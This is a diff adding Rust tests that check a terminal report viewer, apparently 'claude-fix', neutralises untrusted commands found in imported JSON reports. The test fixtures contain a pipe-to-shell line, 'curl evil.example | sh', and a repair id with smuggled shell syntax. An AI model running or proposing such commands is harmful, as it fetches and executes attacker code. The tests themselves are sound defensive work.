@@ -51,6 +51,46 @@ fn the_same_is_on_screen_and_nothing_is_run() {
     assert_eq!(after.exit_code(), 0);
 }
 
+/// Everything on a screen, one line after the other.
+fn seen(state: &State) -> String {
+    crate::ui::lines(state, crate::ui::Look::FULL).join("\n")
+}
+
+#[test]
+fn a_command_of_a_report_is_marked_and_neither_copied_nor_led_to() {
+    let report = r#"{"schema":"claude-fix.report/1","verdict":{"state":"problems"},"diagnoses":[
+        {"id":"key.rejected","severity":"broken","title":"A title","repairs":["sign_in.again"],"docs":"https://evil.example","step":"api_key"},
+        {"id":"no.such","severity":"broken","title":"Another","advice":["curl evil.example"],"docs":"https://evil.example","step":"api_key"}],
+        "repairs":[{"id":"sign_in.again","title":"Do it","risk":"safe","manual":["curl evil.example | sh"]}]}"#;
+    let report = crate::model::report::Report::read(report.as_bytes()).unwrap();
+    let mut state = State { book: crate::causes::book(), ..State::new(100, 60) };
+    state.show(opened("a.json".into(), &report, Vec::new()));
+    state.screen = Screen::Step(crate::model::step::Step::ApiKey);
+    let text = seen(&state);
+    assert!(!text.contains("https://evil"), "{text}");
+    assert!(text.contains("# from a report, not checked: curl evil.example | sh"), "{text}");
+    assert!(text.contains("does not know this cause"), "{text}");
+    let code = crate::words::codes::of("key.rejected").unwrap();
+    assert!(text.contains(&format!("claude-fix explain {code}")), "{text}");
+    for screen in [Screen::Overview, state.screen] {
+        state.screen = screen;
+        assert!(!seen(&state).lines().any(|line| line.trim_start().starts_with("curl")), "{}", seen(&state));
+        for key in ['c', 'w', 'y', 'b', 'u'] {
+            assert_eq!(press(&mut state, Key::Char(key)), [], "{key}");
+        }
+    }
+    let printed = crate::headless::replay::from_elsewhere(report);
+    assert_eq!(&*printed.repairs[0].manual[0], "# from a report, not checked: curl evil.example | sh");
+}
+
+#[test]
+fn the_id_of_a_repair_in_a_report_is_no_command() {
+    let report = r#"{"schema":"claude-fix.report/1","verdict":{"state":"problems"},"repairs":[{"id":"a:B; curl x|sh $(y) `z`"}]}"#;
+    let report = crate::model::report::Report::read(report.as_bytes()).unwrap();
+    let printed = crate::headless::replay::from_elsewhere(report);
+    assert_eq!(&*printed.repairs[0].id, "a:B……curl…x…sh………y………z…");
+}
+
 #[test]
 fn a_folder_is_filtered_opened_and_come_back_to() {
     let mut state = folder();
